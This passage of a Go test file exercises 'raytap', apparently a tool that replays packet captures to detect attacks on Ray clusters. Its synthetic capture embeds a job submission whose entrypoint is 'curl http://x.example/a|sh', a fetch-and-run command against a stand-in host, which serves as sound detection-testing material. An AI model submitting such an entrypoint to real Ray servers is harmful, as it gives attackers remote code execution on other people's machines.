package main

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// program is the binary under test, built once.
var program string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "raytap-cmd-")
	if err != nil {
		panic(err)
	}
	program = filepath.Join(dir, "raytap")
	build := exec.Command("go", "build", "-o", program, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0") // as it is shipped; only so can a sensor give up its privileges
	if out, err := build.CombinedOutput(); err != nil {
		os.Stderr.Write(out)
		os.RemoveAll(dir)
		os.Exit(1)
	}
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

type result struct {
	code           int
	stdout, stderr string
}

// invoke runs the program in a directory of its own, with stdin.
func invoke(t *testing.T, dir string, stdin []byte, args ...string) result {
	t.Helper()
	cmd := exec.Command(program, args...)
	cmd.Dir = dir
	cmd.Stdin = bytes.NewReader(stdin)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err := cmd.Run()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		t.Fatal(err)
	}
	r := result{cmd.ProcessState.ExitCode(), out.String(), errs.String()}
	if strings.Contains(r.stderr, "goroutine ") || strings.ContainsAny(r.stdout+r.stderr, "\x1b\r") {
		t.Errorf("%v: stdout %q, stderr %q", args, r.stdout, r.stderr)
	}
	return r
}

func (r result) expect(t *testing.T, code int, stdout, stderr string) {
	t.Helper()
	if r.code != code {
		t.Errorf("exit status %d, want %d", r.code, code)
	}
	for _, c := range [...]struct{ name, got, want string }{{"stdout", r.stdout, stdout}, {"stderr", r.stderr, stderr}} {
		if c.want == "" && c.got != "" || !strings.Contains(c.got, c.want) {
			t.Errorf("%s is %q, want %q", c.name, c.got, c.want)
		}
	}
	if t.Failed() {
		t.Logf("stdout: %s\nstderr: %s", r.stdout, r.stderr)
	}
}

// attack is a capture in which 203.0.113.66 submits a job to the Ray at 10.20.0.10 and is told that it runs.
func attack(start uint32) []byte {
	message := func(head, body string) string {
		return fmt.Sprintf("%s\r\nHost: 10.20.0.10:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", head, len(body), body)
	}
	request := message("POST /api/jobs/ HTTP/1.1", `{"entrypoint":"curl http://x.example/a|sh"}`)
	answer := message("HTTP/1.1 200 OK", `{"job_id":"raysubmit_aaaaaaaaaaaaaaaa","submission_id":"raysubmit_aaaaaaaaaaaaaaaa"}`)
	type step struct {
		out      bool // from the attacker
		flags    byte
		seq, ack uint32
		data     string
	}
	const syn, fin, ack, psh = 2, 1, 16, 8
	q, a := uint32(len(request)), uint32(len(answer))
	// little-endian, microseconds, Ethernet
	b := []byte{0xd4, 0xc3, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 4, 0, 1, 0, 0, 0}
	for i, s := range []step{
		{true, syn, 100, 0, ""}, {false, syn | ack, 500, 101, ""}, {true, ack, 101, 501, ""},
		{true, psh | ack, 101, 501, request}, {false, psh | ack, 501, 101 + q, answer},
		{true, fin | ack, 101 + q, 501 + a, ""}, {false, fin | ack, 501 + a, 102 + q, ""}, {true, ack, 102 + q, 502 + a, ""},
	} {
		src, dst, sport, dport := [4]byte{203, 0, 113, 66}, [4]byte{10, 20, 0, 10}, uint16(40000), uint16(8265)
		if !s.out {
			src, dst, sport, dport = dst, src, dport, sport
		}
		tcp := binary.BigEndian.AppendUint16(nil, sport)
		tcp = binary.BigEndian.AppendUint16(tcp, dport)
		tcp = binary.BigEndian.AppendUint32(tcp, s.seq)
		tcp = binary.BigEndian.AppendUint32(tcp, s.ack)
		tcp = append(tcp, 5<<4, s.flags, 0x20, 0, 0, 0, 0, 0)
		tcp = append(tcp, s.data...)
		pseudo := append(append(append([]byte{}, src[:]...), dst[:]...), 0, 6, byte(len(tcp)>>8), byte(len(tcp)))
		binary.BigEndian.PutUint16(tcp[16:], checksum(append(pseudo, tcp...)))
		ip := []byte{0x45, 0, 0, 0, 0, byte(i), 0x40, 0, 64, 6, 0, 0}
		binary.BigEndian.PutUint16(ip[2:], uint16(20+len(tcp)))
		ip = append(append(ip, src[:]...), dst[:]...)
		binary.BigEndian.PutUint16(ip[10:], checksum(ip))
		frame := append([]byte{2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}, append(ip, tcp...)...)
		for _, v := range [...]uint32{start, uint32(i) * 1000, uint32(len(frame)), uint32(len(frame))} {
			b = binary.LittleEndian.AppendUint32(b, v)
		}
		b = append(b, frame...)
	}
	return b
}

// checksum is RFC 1071's.
func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// folder makes a directory with files.
func folder(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func read(t *testing.T, parts ...string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(parts...))
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func TestReplayTellsTheStory(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	r := invoke(t, dir, nil, "replay", "a.pcap")
	r.expect(t, 0, "203.0.113.66", "")
	if !strings.Contains(r.stdout, "[jobsubmit/external, R") || !strings.Contains(r.stdout, ", C") || !strings.Contains(r.stdout, "\n8 packets; ") {
		t.Errorf("stdout %s", r.stdout)
	}
	// Behind what the times are the most severe stands first.
	if !strings.HasPrefix(r.stdout, "times are UTC\n\ncritical  2023-11-14 22:13:20  ") {
		t.Errorf("first line of %s", r.stdout)
	}
	for _, log := range []string{"conn", "http", "notice", "stats"} {
		if s := read(t, dir, "raytap-logs", log+".log"); !strings.HasPrefix(s, "#separator \\x09\n") || !strings.Contains(s, "\n#close\t2023-11-14-22-13-20\n") {
			t.Errorf("%s.log: %s", log, s)
		}
	}
}

func TestAssetsAreKept(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "b.pcap": string(attack(1800000000))})
	r := invoke(t, dir, nil, "assets", "a.pcap", "--state=known.json")
	r.expect(t, 0, "answered 203.0.113.66, outside the home networks, without asking for a token", "")
	if !strings.HasPrefix(r.stdout, "GRADE  ASSET ") || !strings.Contains(r.stdout, "\nF      ray 10.20.0.10 ") {
		t.Errorf("stdout %s", r.stdout)
	}
	var list []map[string]any
	if err := json.Unmarshal([]byte(invoke(t, dir, nil, "assets", "--json", "b.pcap", "--state=known.json").stdout), &list); err != nil || len(list) != 1 {
		t.Fatalf("%v: %v", err, list)
	}
	if a := list[0]; a["asset"] != "ray 10.20.0.10" || a["first_seen"].(string)[:4] != "2023" || a["last_seen"].(string)[:4] != "2027" {
		t.Errorf("the second run knows %v", a)
	}
	invoke(t, dir, nil, "assets").expect(t, 2, "", "no capture given")
	invoke(t, dir, nil, "assets", "none.pcap").expect(t, 1, "", "none.pcap")
	invoke(t, dir, nil, "assets", "--state=a.pcap", "a.pcap").expect(t, 1, "", "a.pcap is not an inventory")
	if got := read(t, dir, "a.pcap"); got != string(attack(1700000000)) {
		t.Error("a file that is no inventory was written over")
	}
}

func TestReplayJSON(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "replay", "--format=json", "--out", "x/y", "a.pcap").expect(t, 0, "job", "")
	for line := range strings.Lines(read(t, dir, "x", "y", "notice.log")) {
		var row map[string]any
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		for _, k := range []string{"ts", "uid", "note", "msg", "src", "dst", "rule", "severity"} {
			if row[k] == nil {
				t.Errorf("no %s in %s", k, line)
			}
		}
	}
}

func TestTwoRunsAreByteIdentical(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "b.pcap": string(attack(1600000000))})
	invoke(t, dir, nil, "replay", "--out=1", "--workers=1", "a.pcap", "b.pcap").expect(t, 0, "16 packets", "")
	invoke(t, dir, nil, "replay", "--out=2", "--workers=8", "b.pcap", "a.pcap").expect(t, 0, "16 packets", "")
	files, err := os.ReadDir(filepath.Join(dir, "1"))
	if err != nil || len(files) < 4 {
		t.Fatal(files, err)
	}
	for _, f := range files {
		if read(t, dir, "1", f.Name()) != read(t, dir, "2", f.Name()) {
			t.Errorf("%s differs", f.Name())
		}
	}
}

func TestStandardInput(t *testing.T) {
	invoke(t, t.TempDir(), attack(1700000000), "replay", "-").expect(t, 0, "8 packets", "")
	invoke(t, t.TempDir(), nil, "replay", "-").expect(t, 1, "", "standard input")
}

func TestFailOn(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	for _, c := range []struct {
		args []string
		code int
	}{
		{[]string{"--fail-on", "critical"}, 3},
		{[]string{"--fail-on=info"}, 3},
		{[]string{}, 0},
		{[]string{"--fail-on=info", "--filter=port 1"}, 0},
	} {
		if r := invoke(t, dir, nil, append([]string{"replay", "a.pcap"}, c.args...)...); r.code != c.code {
			t.Errorf("%v: exit status %d, want %d\n%s%s", c.args, r.code, c.code, r.stdout, r.stderr)
		}
	}
}

func TestHomeIsRepeatable(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	r := invoke(t, dir, nil, "replay", "--home=10.0.0.0/8", "--home", "203.0.113.0/24", "a.pcap")
	r.expect(t, 0, "8 packets", "")
	if strings.Contains(r.stdout, "jobsubmit/external") {
		t.Errorf("both ends are at home, but: %s", r.stdout)
	}
	if conn := read(t, dir, "raytap-logs", "conn.log"); !strings.Contains(conn, "\tSF\tT\tT\t") {
		t.Errorf("conn.log: %s", conn)
	}
}

func TestQuietSaysNothingButErrors(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "replay", "--quiet", "--fail-on=high", "a.pcap").expect(t, 3, "", "")
	invoke(t, dir, nil, "replay", "--quiet", "none.pcap").expect(t, 1, "", "none.pcap")
}

func TestFilter(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	r := invoke(t, dir, nil, "replay", "--filter", "port 53", "a.pcap")
	r.expect(t, 0, "0 flows; ", "")
	invoke(t, dir, nil, "replay", "--filter", "port and", "a.pcap").expect(t, 2, "", "filter: ")
}

func TestWrongUsage(t *testing.T) {
	dir := folder(t, map[string]string{
		"a.pcap":     string(attack(1700000000)),
		"bad.yaml":   "workers: 1\n\nhomes: []\n",
		"value.yaml": "egress:\n  bytes: much\n",
	})
	for _, c := range []struct {
		args string
		want string
	}{
		{"", "usage: raytap COMMAND"},
		{"replaay a.pcap", `unknown command "replaay"`},
		{"replay", "no capture given"},
		{"replay --quiet", "no capture given"},
		{"replay --colour a.pcap", "unknown flag --colour"},
		{"replay a.pcap --colour=1", "unknown flag --colour\n"},
		{"replay -x a.pcap", "unknown flag -x"},
		{"replay a.pcap --out", "flag --out needs a value"},
		{"replay a.pcap --out=", "out: is empty"},
		{"replay --workers many a.pcap", `flag --workers: "many": `},
		{"replay --workers=-1 a.pcap", "workers: -1"},
		{"replay --quiet=perhaps a.pcap", `flag --quiet: "perhaps": `},
		{"replay --home 10.0.0.0/33 a.pcap", `home: "10.0.0.0/33"`},
		{"replay --home 10.0.0.0/8 --home x a.pcap", `home: "x"`},
		{"replay --format xml a.pcap", `format: "xml"`},
		{"replay --fail-on bad a.pcap", `fail_on: unknown severity "bad"`},
		{"replay --config none.yaml a.pcap", "none.yaml"},
		{"replay --config bad.yaml a.pcap", "bad.yaml:3: homes: unknown key"},
		{"replay --config value.yaml a.pcap", `value.yaml:2: egress.bytes: "much"`},
		{"rules all", `no rule "all"`},
		{"rules jobsubmit/externl", `did you mean jobsubmit/external?`},
		{"replay --homes 10.0.0.0/8 a.pcap", "unknown flag --homes; did you mean --home?"},
		{"sensor --rotate-intervall 1h", "did you mean --rotate-interval?"},
		{"report -x", "unknown flag -x\n"},
		{"report -o", "flag -o needs a value"},
		{"tail -n many x", `flag -n: "many"`},
		{"repley a.pcap", `unknown command "repley"; did you mean replay?`},
		{"a.pcap", "captures are read by raytap replay"},
		{"-r a.pcap", "flags go after a command: raytap replay -r"},
		{"replay --home 10.0.0.0/8,x a.pcap", `home: "x"`},
		{"rules --yaml", "unknown flag --yaml"},
		{"version now", "takes no arguments"},
		{"help nothing", `unknown command "nothing"`},
	} {
		r := invoke(t, dir, nil, strings.Fields(c.args)...)
		if r.code != 2 || r.stdout != "" || !strings.Contains(r.stderr, c.want) {
			t.Errorf("raytap %s: exit status %d, stdout %q, stderr %q; want %q", c.args, r.code, r.stdout, r.stderr, c.want)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "raytap-logs")); err == nil {
		t.Error("logs were written")
	}
}

func TestFlagsStandAnywhere(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "--quiet": string(attack(1600000000))})
	invoke(t, dir, nil, "replay", "a.pcap", "--out", "1", "-quiet").expect(t, 0, "", "")
	invoke(t, dir, nil, "replay", "-out=2", "a.pcap", "--", "--quiet").expect(t, 0, "16 packets", "")
	// a value that looks like a flag, or like the end of flags
	invoke(t, dir, nil, "replay", "--out", "--", "a.pcap").expect(t, 0, "8 packets", "")
	for _, out := range []string{"1", "2", "--"} {
		if _, err := os.Stat(filepath.Join(dir, out, "conn.log")); err != nil {
			t.Error(err)
		}
	}
}

func TestFlagsWinOverTheConfiguration(t *testing.T) {
	dir := folder(t, map[string]string{
		"a.pcap": string(attack(1700000000)),
		"c.yaml": "out: from-file\nformat: json\nfail_on: critical\nquiet: true\n",
	})
	invoke(t, dir, nil, "replay", "--config=c.yaml", "a.pcap").expect(t, 3, "", "")
	if s := read(t, dir, "from-file", "conn.log"); !strings.HasPrefix(s, "{") {
		t.Errorf("conn.log: %s", s)
	}
	invoke(t, dir, nil, "replay", "--format=zeek", "--config=c.yaml", "--out=flag", "--quiet=false", "--fail-on=", "a.pcap").expect(t, 0, "8 packets", "")
	if s := read(t, dir, "flag", "conn.log"); !strings.HasPrefix(s, "#") {
		t.Errorf("conn.log: %s", s)
	}
}

// TestDamagedInputs: what came before the damage is written, and each bad file has its message.
func TestDamagedInputs(t *testing.T) {
	whole := attack(1700000000)
	longRecord := append([]byte{}, whole...)
	longRecord = append(longRecord, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 0x7f)
	dir := folder(t, map[string]string{
		"whole.pcap": string(whole),
		"cut.pcap":   string(whole[:len(whole)-3]),
		"long.pcap":  string(longRecord),
		"text.pcap":  "this is no capture, but some text that is long enough to be looked at",
		"empty.pcap": "",
	})
	offset := regexp.MustCompile(`offset \d+: `)
	for _, c := range []struct {
		args, stdout string
		stderr       []string
	}{
		{"cut.pcap", "[jobsubmit/external, ", []string{"cut.pcap"}},
		{"long.pcap", "8 packets", []string{"long.pcap"}},
		{"none.pcap", "", []string{"none.pcap"}},
		{"text.pcap", "", []string{"text.pcap"}},
		{"empty.pcap", "", []string{"empty.pcap"}},
		{"none.pcap text.pcap whole.pcap empty.pcap", "8 packets", []string{"none.pcap", "text.pcap", "empty.pcap"}},
	} {
		r := invoke(t, dir, nil, append([]string{"replay", "--out=logs-" + strings.ReplaceAll(c.args, " ", "+")}, strings.Fields(c.args)...)...)
		if r.code != 1 || !strings.Contains(r.stdout, c.stdout) {
			t.Errorf("%s: exit status %d, stdout %q", c.args, r.code, r.stdout)
		}
		lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
		if len(lines) != len(c.stderr) {
			t.Errorf("%s: stderr %q", c.args, r.stderr)
			continue
		}
		for i, l := range lines {
			if !strings.HasPrefix(l, "raytap: ") || !strings.Contains(l, c.stderr[i]) || c.stderr[i] != "none.pcap" && !offset.MatchString(l) {
				t.Errorf("%s: message %q", c.args, l)
			}
		}
	}
	if s := read(t, dir, "logs-cut.pcap", "notice.log"); !strings.Contains(s, "Raytap::Job_Submit_External") || !strings.Contains(s, "\n#close\t") {
		t.Errorf("notice.log of the cut capture: %s", s)
	}
}

// TestUnknownLinkTypeIsSaid: once, on stderr, though nothing is wrong with the file.
func TestUnknownLinkTypeIsSaid(t *testing.T) {
	b := attack(1700000000)
	b[20] = 147
	dir := folder(t, map[string]string{"user0.pcap": string(b)})
	r := invoke(t, dir, nil, "replay", "--out=logs", "user0.pcap")
	r.expect(t, 0, "lost: 8 packets unknown link", "raytap: frames of link type 147 ")
	if strings.Count(r.stderr, "\n") != 1 {
		t.Errorf("stderr %q", r.stderr)
	}
	if s := read(t, dir, "logs", "weird.log"); strings.Count(s, "unknown_link_type\t147") != 1 {
		t.Errorf("weird.log %q", s)
	}
}

// TestUnknownEtherTypesAreInStats: what a mirror port puts before the frames is named, the most frequent first.
func TestUnknownEtherTypesAreInStats(t *testing.T) {
	b := attack(1700000000)
	for i, at := 0, 24; at < len(b); i++ {
		n := int(binary.LittleEndian.Uint32(b[at+8:]))
		typ := uint16(0x88b5)
		if i == 3 {
			typ = 0x88b6
		}
		binary.BigEndian.PutUint16(b[at+16+12:], typ)
		at += 16 + n
	}
	dir := folder(t, map[string]string{"a.pcap": string(b)})
	r := invoke(t, dir, nil, "replay", "--out=logs", "a.pcap")
	r.expect(t, 0, "lost: 8 packets unknown ethertype", "")
	if s := read(t, dir, "logs", "stats.log"); !strings.Contains(s, "\tunknown_ethertypes\t") || !strings.Contains(s, "\t0x88b5=7,0x88b6=1\t") {
		t.Errorf("stats.log %q", s)
	}
	if s := read(t, dir, "logs", "weird.log"); strings.Count(s, "unknown_ether_type\t0x88b5\t") != 1 || strings.Count(s, "unknown_ether_type\t0x88b6\t") != 1 {
		t.Errorf("weird.log %q", s)
	}
}

func TestFindingStandsAboveDamage(t *testing.T) {
	whole := attack(1700000000)
	dir := folder(t, map[string]string{"cut.pcap": string(whole[:len(whole)-3])})
	invoke(t, dir, nil, "replay", "--fail-on=high", "cut.pcap").expect(t, 3, "jobsubmit/external", "cut.pcap")
}

func TestOutputThatCannotBeWritten(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "file": ""})
	invoke(t, dir, nil, "replay", "--out=file", "a.pcap").expect(t, 1, "", "raytap: cannot make the log directory: ")
}

func TestInterruptClosesTheLogs(t *testing.T) {
	dir := t.TempDir()
	cmd := exec.Command(program, "replay", "-")
	cmd.Dir = dir
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// More is sent after the signal, so that a read that waits comes back; when it has ended writing fails.
	if _, err := stdin.Write(attack(1700000000)); err != nil {
		t.Fatal(err)
	}
	records := attack(1700000001)[24:]
	for sent := false; ; time.Sleep(10 * time.Millisecond) {
		if _, err := os.Stat(filepath.Join(dir, "raytap-logs")); err == nil && !sent {
			if err := cmd.Process.Signal(os.Interrupt); err != nil {
				t.Fatal(err)
			}
			sent = true
		}
		if _, err := stdin.Write(records); err != nil {
			break
		}
	}
	err = cmd.Wait()
	if cmd.ProcessState.ExitCode() != 130 || !strings.Contains(errs.String(), "interrupted") || !strings.Contains(out.String(), "packets") {
		t.Errorf("%v: stdout %q, stderr %q", err, out.String(), errs.String())
	}
	if s := read(t, dir, "raytap-logs", "stats.log"); !strings.Contains(s, "\n#close\t") {
		t.Errorf("stats.log: %s", s)
	}
	if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
		t.Error("killed by the signal")
	}
}

func TestRulesText(t *testing.T) {
	r := invoke(t, t.TempDir(), nil, "rules")
	r.expect(t, 0, "jobsubmit/external", "")
	for _, want := range []string{"mining/stratum", "egress/large", "  ATLAS            AML.T", "  ATT&CK           T", "  needs to see     ", "  false positives  "} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("no %q in %s", want, r.stdout)
		}
	}
}

func TestRulesInForce(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "c.yaml"), []byte("rules:\n  off: [probe]\n  severity: {scan/*: low}\n  suppress:\n    - {rule: gcs, src: [203.0.113.7], until: 2001-01-01, why: a test}\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := invoke(t, dir, nil, "rules", "--in-force", "--config", "c.yaml")
	for _, want := range []string{"probe/paths              off (probe)\n", "scan/hosts               low (scan/*; of its own ",
		"gcs/external             critical\n  kept back        from 203.0.113.7, until 2001-01-01 (over): a test\n", " 4 off, 4 changed otherwise\n"} {
		if r.code != 0 || !strings.Contains(r.stdout, want) {
			t.Errorf("no %q in %d\n%s%s", want, r.code, r.stdout, r.stderr)
		}
	}
	invoke(t, dir, nil, "rules", "--in-force").expect(t, 0, "0 off, 0 changed otherwise", "")
	invoke(t, dir, nil, "rules", "--config", "c.yaml").expect(t, 2, "", "--config goes with --in-force")
}

func TestRulesJSON(t *testing.T) {
	r := invoke(t, t.TempDir(), nil, "rules", "--json")
	var rules []ruleJSON
	if err := json.Unmarshal([]byte(r.stdout), &rules); err != nil || r.code != 0 {
		t.Fatalf("exit status %d, %v: %s", r.code, err, r.stdout)
	}
	if len(rules) < 14 {
		t.Errorf("%d rules", len(rules))
	}
	for _, r := range rules {
		if r.Name == "" || r.Says == "" || r.Severity == "" || !strings.HasPrefix(r.Note, "Raytap::") || len(r.ATTACK) == 0 || r.ATTACK[0].Name == "" {
			t.Errorf("%+v", r)
		}
	}
}

func TestVersionAndHelp(t *testing.T) {
	dir := t.TempDir()
	for _, args := range []string{"version", "--version", "-v", "-V"} {
		invoke(t, dir, nil, args).expect(t, 0, "raytap ", "")
	}
	for _, args := range []string{"help", "--help", "-h"} {
		invoke(t, dir, nil, args).expect(t, 0, "usage: raytap COMMAND", "")
	}
	for _, args := range []string{"help replay", "replay --help", "replay -h", "replay a.pcap --out x --help"} {
		r := invoke(t, dir, nil, strings.Fields(args)...)
		r.expect(t, 0, "usage: raytap replay [flags] FILE|DIR...", "")
		for _, flag := range []string{"--out DIR", "--format FORMAT", "--home CIDR", "--workers N", "--filter BPF", "--config FILE", "--fail-on SEVERITY", "--quiet ", "--ignore-checksums ", "-r FILE"} {
			if !strings.Contains(r.stdout, "  "+flag) {
				t.Errorf("%s: no %s in\n%s", args, flag, r.stdout)
			}
		}
		if strings.Contains(r.stdout, "profile") {
			t.Errorf("%s tells of hidden flags", args)
		}
	}
}

// TestListsTakeCommas: wherever a flag may be repeated; but not within the name of a file.
func TestListsTakeCommas(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000)), "b.pcap": string(attack(1700000100)), "one,two.csv": "indicator\n198.51.100.9\n"})
	show := invoke(t, dir, nil, "config", "show", "--home", "10.0.0.0/8, 192.0.2.0/24,", "--interfaces=eth0,eth1", "--logs", "conn,http", "--logs=dns",
		"--intel", "one,two.csv", "--scan-ray-ports=8265,10001")
	show.expect(t, 0, "home: ", "")
	for _, want := range []string{"home: [10.0.0.0/8, 192.0.2.0/24] ", "interfaces: [eth0, eth1] ", "logs: [conn, http, dns] ", `intel: ["one,two.csv"] `, "ray_ports: [8265, 10001] "} {
		if !strings.Contains(show.stdout, want) {
			t.Errorf("no %s in\n%s", want, show.stdout)
		}
	}
	// With everybody inside nothing comes from outside.
	invoke(t, dir, nil, "replay", "--home", "10.0.0.0/8,203.0.113.0/24", "--logs=conn,notice", "-r", "a.pcap", "b.pcap").expect(t, 0, "16 packets", "")
	if s := read(t, dir, "raytap-logs", "notice.log"); strings.Contains(s, "jobsubmit/external") {
		t.Errorf("notice.log: %s", s)
	}
	if _, err := os.Stat(filepath.Join(dir, "raytap-logs", "http.log")); err == nil {
		t.Error("http.log was not asked for")
	}
	for _, args := range [][]string{{"help", "report"}, {"help", "sensor"}, {"help", "tail"}} {
		if r := invoke(t, dir, nil, args...); !regexp.MustCompile(`(?m)^  -[oin] [A-Z]+ `).MatchString(r.stdout) || strings.Contains(r.stdout, "  --i ") {
			t.Errorf("%s: %s", args, r.stdout)
		}
	}
}

// TestFolderOfCaptures: it is read as its captures together are, in the order of time whatever they are called; what is none
// is said, and so are a capture given twice and packets that are in two of them.
func TestFolderOfCaptures(t *testing.T) {
	first, second := string(attack(1700000000)), string(attack(1700000100))
	files := map[string]string{
		"in/z.pcap": first, "in/a.pcap1": second, "in/.hidden": second, "in/begun.pcap": "", "in/notes.txt": "no capture", "in/below/c.pcap": second,
		"copy.pcap": first, "empty/notes.txt": "no capture", "bad/a.pcap": first, "bad/b.pcap": "no capture, whatever it is called",
	}
	dir := folder(t, nil)
	for name, text := range files {
		if err := os.MkdirAll(filepath.Join(dir, filepath.Dir(name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	logs := func(out string) (all string) {
		for _, name := range []string{"conn.log", "http.log", "notice.log"} {
			all += regexp.MustCompile(`(?m)^#(open|close).*`).ReplaceAllString(read(t, dir, out, name), "")
		}
		return all
	}
	invoke(t, dir, nil, "replay", "--out=one", "in").expect(t, 0, "16 packets", "in: skipped entries that are not captures: files: 1, directories: 1")
	invoke(t, dir, nil, "replay", "--out=two", "in/z.pcap", "in/a.pcap1").expect(t, 0, "16 packets", "")
	if one, two := logs("one"), logs("two"); one != two {
		t.Errorf("the folder:\n%s\nits files:\n%s", one, two)
	}
	invoke(t, dir, nil, "replay", "in", "./in/z.pcap").expect(t, 0, "16 packets", "./in/z.pcap is given twice; it is read once")
	invoke(t, dir, nil, "replay", "in/z.pcap", "copy.pcap").expect(t, 0, "16 packets", "8 packets are in two of the captures")
	invoke(t, dir, nil, "replay", "empty").expect(t, 1, "", "empty: no captures in this folder")
	invoke(t, dir, nil, "replay", "bad").expect(t, 1, "8 packets", "b.pcap")
	invoke(t, dir, nil, "extract", "--host=203.0.113.66", "-o=x.pcapng", "in").expect(t, 0, "16 packets", "")
}

func TestHiddenFlags(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "replay", "--cpuprofile=c", "--memprofile=m", "--trace=t", "a.pcap").expect(t, 0, "8 packets", "")
	for _, name := range []string{"c", "m", "t"} {
		if read(t, dir, name) == "" {
			t.Errorf("%s is empty", name)
		}
	}
	invoke(t, dir, nil, "replay", "--cpuprofile=none/c", "a.pcap").expect(t, 2, "", "none/c")
}

func TestReplayReports(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "replay", "--quiet", "--report", "now.html", "--export", "out", "a.pcap").expect(t, 0, "", "")
	now := read(t, dir, "now.html")
	if !strings.Contains(now, "Yes: we were hit.") || !strings.Contains(now, "a.pcap") {
		t.Error("the report does not tell the attack")
	}
	for _, name := range []string{"findings.jsonl", "incidents.jsonl", "indicators.csv", "stix.json"} {
		read(t, dir, "out", name)
	}
	// Later, of the logs: the same but for the name of what was read.
	invoke(t, dir, nil, "report", "raytap-logs").expect(t, 0, "", "")
	if later := read(t, dir, "raytap-report.html"); strings.ReplaceAll(later, "raytap-logs", "a.pcap") != now {
		t.Error("the report of the logs differs from that of the replay")
	}
	invoke(t, dir, nil, "report", "raytap-logs", "--export=again").expect(t, 0, "", "")
	if read(t, dir, "again", "stix.json") != read(t, dir, "out", "stix.json") {
		t.Error("the bundle of the logs differs from that of the replay")
	}
	// With the attacker at home there is no attack.
	invoke(t, dir, nil, "report", "raytap-logs", "-o", "home.html", "--home=0.0.0.0/0").expect(t, 0, "", "")
	if strings.Contains(read(t, dir, "home.html"), "203[.]0[.]113[.]66") {
		t.Error("--home has no effect")
	}
}

func TestReportSaysWhatItCannotRead(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "report", "none").expect(t, 1, "", "none")
	invoke(t, dir, nil, "report", ".").expect(t, 1, "", "no logs in .")
	invoke(t, dir, nil, "report").expect(t, 2, "", "takes folders")
	invoke(t, dir, nil, "report", "b", ".").expect(t, 1, "", "b: no such file")
	invoke(t, dir, nil, "replay", "--quiet", "--report", "no/such/folder.html", "a.pcap").expect(t, 1, "", "folder.html")
	// What could not be read is not reported from the logs of another run.
	invoke(t, dir, nil, "replay", "--quiet", "--report", "x.html", "none.pcap").expect(t, 1, "", "none.pcap")
	if _, err := os.Stat(filepath.Join(dir, "x.html")); err == nil {
		t.Error("a report of another run's logs")
	}
}

// finding gives the id and flow of a rule's finding in the logs in dir.
func finding(t *testing.T, dir, rule string) (id, uid string) {
	t.Helper()
	for line := range strings.Lines(read(t, dir, "raytap-logs", "notice.log")) {
		var row map[string]any
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatal(err)
		}
		if row["rule"] == rule {
			uid, _ = row["uid"].(string)
			return row["finding_id"].(string), uid
		}
	}
	t.Fatalf("no finding %s", rule)
	return "", ""
}

// replayed replays a labelled capture into a folder, and gives both.
func replayed(t *testing.T, name string) (dir, pcap string) {
	t.Helper()
	pcap, err := filepath.Abs("../../pcaps/" + name + ".pcap.gz")
	if err != nil {
		t.Fatal(err)
	}
	dir = t.TempDir()
